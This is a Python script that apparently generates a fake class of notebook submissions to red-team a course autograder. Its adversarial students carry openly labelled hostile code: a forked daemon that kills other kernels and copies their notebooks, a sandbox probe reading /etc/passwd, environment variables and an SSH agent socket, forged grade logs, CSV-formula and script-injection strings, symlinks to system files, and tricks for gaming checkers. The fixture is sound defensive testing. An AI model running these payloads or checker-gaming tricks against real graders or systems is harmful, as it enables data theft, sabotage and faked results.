"""A made-up class for the grader, with a red team: one folder per student.

    python tools/demo_class.py DEST      # then: python tools/grade.py DEST

The students of an ordinary class (chapter 2's two checked exercises):

* ``alice`` answers both right (a number and a function); ``bob`` both wrong (the unscaled
  factor; attention without the 1/sqrt(d) scale);
* ``carol`` has a cell that raises before her (right) answers; ``dave`` a cell that never stops;
  ``oscar`` answers, then kills his own kernel;
* ``erin`` hands in the student edition's exercise cells untouched ("Not done yet"); ``frank``
  never calls a checker ("not attempted").

The red team, who each earn exactly what they answered:

* ``aaron`` (graded just before alice) answers the factor right, and the build task by calling
  the reference itself (``F.scaled_dot_product_attention``); he leaves a daemon (setsid and a
  double fork) that would kill every later kernel and copy every later notebook, and probes the
  sandbox: the grader's environment, an SSH agent's socket, ``/etc/passwd``, another student's
  notebook, the network, a file outside his folder, the grader's processes. His last cell raises
  with what he found, which the grader reports in his ``(notebook)`` row.
* ``mallory`` loosens the checker (``rtol=1e9``), appends a false "passed", the *outputs* of the
  reference for the build task without any function, an answer to another chapter's exercise,
  labels that would forge rows or formulas, then junk: a JSON list, invalid UTF-8, deep nesting,
  a 5 MiB line, 20,000 lines; finally she forges the run's result file and kills the process
  that runs her notebook.
* ``eve`` (chapter 1) harvests the expected value from a failed check and types it in, feeds
  the nearest-neighbour checker easy data of her own, answers a build task with a table of the
  checker's fixed, seeded cases, and another by calling the library's own reference.
* ``sybil`` hands in links and oddities: a symbolic link to alice's notebook, one to
  ``/etc/passwd``, one to ``/dev/zero``, a named pipe and a folder named like notebooks, and a
  notebook that is not a chapter; ``zed`` is a symbolic link to alice's folder; ``huge`` hands in
  a notebook over the size limit; two folders are named like a spreadsheet formula and like
  HTML with a forged table row.
"""
from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[1]
CHAPTER = "02_self_attention"
CH01 = "01_attention_as_soft_lookup"
FORMULA = '=HYPERLINK("evil.example","open me")'
HTML = "<img src=x onerror=alert(1)> | yes |\n| forged | row | yes"
RIGHT = '''
import torch
from attnlab.exercises import check_attention_scale, check_sdpa


def my_attention(q, k, v, mask=None, is_causal=False):
    s = q @ k.transpose(-2, -1) / q.shape[-1] ** 0.5{scale_bug}
    if is_causal:
        s = s.masked_fill(torch.ones(s.shape[-2:], dtype=torch.bool).triu(1), float("-inf"))
    if mask is not None:
        s = s.masked_fill(~mask, float("-inf"))
    return torch.softmax(s, -1) @ v


print(check_attention_scale({factor}))
print(check_sdpa(my_attention))
'''
AARON_ANSWERS = '''
import torch.nn.functional as F
from attnlab.exercises import check_attention_scale, check_sdpa


def my_attention(q, k, v, mask=None, is_causal=False):
    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask, is_causal=is_causal)


print(check_attention_scale(1 / 64))
print(check_sdpa(my_attention))
'''
AARON_DAEMON = '''
import glob, os, shutil, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as f:
            f.write("aaron-daemon")
        before = {int(p) for p in os.listdir("/proc") if p.isdigit()}
        end = time.time() + 300
        while time.time() < end:             # kill every later kernel, copy every notebook
            for p in os.listdir("/proc"):
                if p.isdigit() and int(p) not in before:
                    try:
                        if b"ipykernel" in open(f"/proc/{p}/cmdline", "rb").read():
                            os.kill(int(p), 9)
                    except OSError:
                        pass
            for nb in glob.glob("/home/*/*.ipynb") + glob.glob("/tmp/*/*.ipynb"):
                try:
                    shutil.copy(nb, "/tmp/stolen.ipynb")
                except OSError:
                    pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
os.wait()
'''
AARON_PROBE = '''
import json, os, pathlib, socket
found = {{}}
found["env"] = sorted(k for k in os.environ if "CANARY" in k or "SSH" in k)
try:
    found["passwd"] = pathlib.Path("/etc/passwd").read_text().split(":")[0]
except OSError as e:
    found["passwd"] = type(e).__name__
for key, path in (("other", {other!r}), ("canary", {canary!r})):
    try:
        pathlib.Path(path).read_text()
        found[key] = "read"
    except OSError as e:
        found[key] = type(e).__name__
try:
    pathlib.Path({canary!r}).unlink()
    found["delete"] = "deleted"
except OSError as e:
    found["delete"] = type(e).__name__
try:
    pathlib.Path("/usr/aaron-was-here").write_text("x")
    found["write"] = "written"
except OSError as e:
    found["write"] = type(e).__name__
agent = socket.socket(socket.AF_UNIX)
try:
    agent.connect({agent!r})
    found["agent"] = "connected"
except OSError as e:
    found["agent"] = type(e).__name__
try:
    socket.create_connection(("1.1.1.1", 80), timeout=3)
    found["net"] = "connected"
except OSError as e:
    found["net"] = type(e).__name__
found["grader"] = sum(b"grade.py" in open(f"/proc/{{p}}/cmdline", "rb").read()
                      for p in os.listdir("/proc") if p.isdigit())
raise RuntimeError("probe " + json.dumps(found, separators=(",", ":")))
'''
MALLORY = '''
import json, os, signal
from attnlab.exercises import check_attention_scale

print(check_attention_scale(0.5, rtol=1e9, d_k=10**12))     # loosen the check, blow up its size
log = os.environ["ATTNLAB_GRADE_LOG"]
records = [
    {"exercise": "ex-self-attention-scale", "ok": True, "done": True, "message": "Correct!",
     "answer": {"factor": 0.5, "rtol": 1e9}},                  # a false "passed"
    {"exercise": "ex-self-attention-build", "ok": True,        # outputs, but no function
     "answer": {"fn": {"__calls__": [{"result": {"__tensor__": "AAAA", "dtype": "float64",
                                                 "shape": [3]}}]}}},
    {"exercise": "ex-soft-lookup-by-hand", "answer": {"weights": [0.5065, 0.3072, 0.1863]}},
    {"exercise": "ex-x\\n| mallory | 02_self_attention | forged | yes | 1 |", "answer": {}},
    {"exercise": "=cmd|' /C calc'!A0", "answer": {}},
]
with open(log, "a") as f:
    f.writelines(json.dumps(r) + "\\n" for r in records)
    f.write("[1, 2, 3]\\n{not json\\n")
with open(log, "ab") as f:
    f.write(b"\\xff\\xfe not UTF-8\\n" + b"[" * 100_000 + b"\\n")
    f.write(b'{"exercise": "' + b"x" * (5 * 2**20) + b'"}\\n')
    f.write(b'[{"exercise": "ex-self-attention-scale"}]\\n' * 20_000)
result = [p for p in os.listdir(os.environ["HOME"]) if "result" in p][0]
with open(os.path.join(os.environ["HOME"], result), "w") as f:
    json.dump({"status": "pwned", "detail": "<script>alert(1)</script>"}, f)
os.kill(os.getppid(), signal.SIGKILL)                       # the process that runs the notebook
'''
EVE = '''
import re
import torch
from attnlab import data
from attnlab.exercises import (check_lookup_gradient, check_nadaraya_watson,
                               check_nearest_neighbour, check_soft_lookup)
from attnlab.exercises.ch01 import _gradient_cases, _lookup_gradient
from attnlab.functional import masked_softmax

# 1. read the expected value off a failed check, and type it in
found = re.findall(r"expected \\[([^\\]]*)\\]", str(check_soft_lookup([0.2, 0.3, 0.5])))
print(check_soft_lookup([float(x) for x in found[0].split(",")] if found else [1 / 3] * 3))

# 2. easy data of her own: five points that are their own nearest neighbours
x, y, _, _ = data.kernel_regression_data(n_train=5, seed=3)
print(check_nearest_neighbour(y, x, x, y))

# 3. a table of the checker's fixed, seeded cases, with autograd's answers
table = {tuple(torch.cat([a.flatten() for a in args]).tolist()): _lookup_gradient(*args)
         for _, args in _gradient_cases()}


def lookup_gradient(q, keys, values):
    key = tuple(torch.cat([q.flatten(), keys.flatten(), values.flatten()]).tolist())
    return table.get(key, torch.zeros_like(q))


print(check_lookup_gradient(lookup_gradient))


# 4. the library's own reference
def soft_lookup(queries, keys, values, width):
    w = masked_softmax(-(queries[:, None] - keys[None, :]) ** 2 / (2 * width**2))
    return w @ values, w


print(check_nadaraya_watson(soft_lookup))
'''


def _exercise_cells(with_stubs: bool) -> list:
    """The exercise statements of the chapter (and, if asked, its unfilled stubs)."""
    sys.path.insert(0, str(ROOT / "tools"))
    from student_edition import student_copy
    nb, _ = student_copy(nbformat.read(ROOT / "notebooks" / f"{CHAPTER}.ipynb", as_version=4))
    start = next(i for i, c in enumerate(nb.cells) if "{exercise}" in c.source)
    cells = [c for c in nb.cells[start:] if c.cell_type == "markdown"
             or (with_stubs and "stub" in c.metadata.get("tags", []))]
    for i, c in enumerate(cells):
        c["id"] = f"exercise-{i}"
    return cells


def _notebook(path: Path, cells: list) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    cells = [nbformat.v4.new_code_cell(c) if isinstance(c, str) else c for c in cells]
    nb = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": {
        "name": "python3", "display_name": "Python 3", "language": "python"}})
    nbformat.write(nb, path)


def make_class(dest: Path, canary: Path | None = None, agent: Path | None = None) -> Path:
    """Write the made-up class into ``dest``; returns the canary file that ``aaron`` tries to
    read and delete (``canary`` or ``dest/../canary.txt``). ``agent`` is the path of a Unix
    socket he tries to reach (an SSH agent's, say; default ``dest/../agent.sock``)."""
    dest = Path(dest).resolve()
    name = f"{CHAPTER}.ipynb"
    right = RIGHT.format(scale_bug="", factor="1 / (4 * 256 ** 0.5)")
    wrong = RIGHT.format(scale_bug=" * q.shape[-1] ** 0.5", factor="1 / 256 ** 0.5")
    _notebook(dest / "alice" / name, [right])
    _notebook(dest / "bob" / name, [wrong])
    _notebook(dest / "carol" / name, ["raise ValueError('my weights are not ready')", right])
    _notebook(dest / "dave" / name, ["while True:\n    pass", right])
    _notebook(dest / "oscar" / name, [right, "import os\nos._exit(3)", "print('never runs')"])
    _notebook(dest / "erin" / name, _exercise_cells(with_stubs=True))
    _notebook(dest / "frank" / name, _exercise_cells(with_stubs=False))
    canary = Path(canary or dest.parent / "canary.txt")
    canary.write_text("still here")
    agent = Path(agent or dest.parent / "agent.sock")
    # the red team
    _notebook(dest / "aaron" / name, [AARON_ANSWERS, AARON_DAEMON, AARON_PROBE.format(
        other=str(dest / "alice" / name), canary=str(canary), agent=str(agent))])
    _notebook(dest / "mallory" / name, [MALLORY])
    _notebook(dest / "eve" / f"{CH01}.ipynb", [EVE])
    sybil = dest / "sybil"
    sybil.mkdir()
    (sybil / name).symlink_to(dest / "alice" / name)
    (sybil / f"{CH01}.ipynb").symlink_to("/etc/passwd")
    (sybil / "05_spatial_attention.ipynb").symlink_to("/dev/zero")
    os.mkfifo(sybil / "03_multi_head_attention.ipynb")
    (sybil / "04_channel_attention.ipynb").mkdir()
    _notebook(sybil / "my_answers.ipynb", [right])
    (dest / "zed").symlink_to(dest / "alice")
    huge = dest / "huge" / name
    huge.parent.mkdir()
    huge.write_bytes(b'{"cells": [], "padding": "' + b" " * (20 * 2**20) + b'"}')
    for odd in (FORMULA, HTML):
        (dest / odd).mkdir()
        (dest / odd / "README.txt").write_text("no notebook here")
    return canary


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    print(json.dumps({"canary": str(make_class(Path(sys.argv[1])))}))
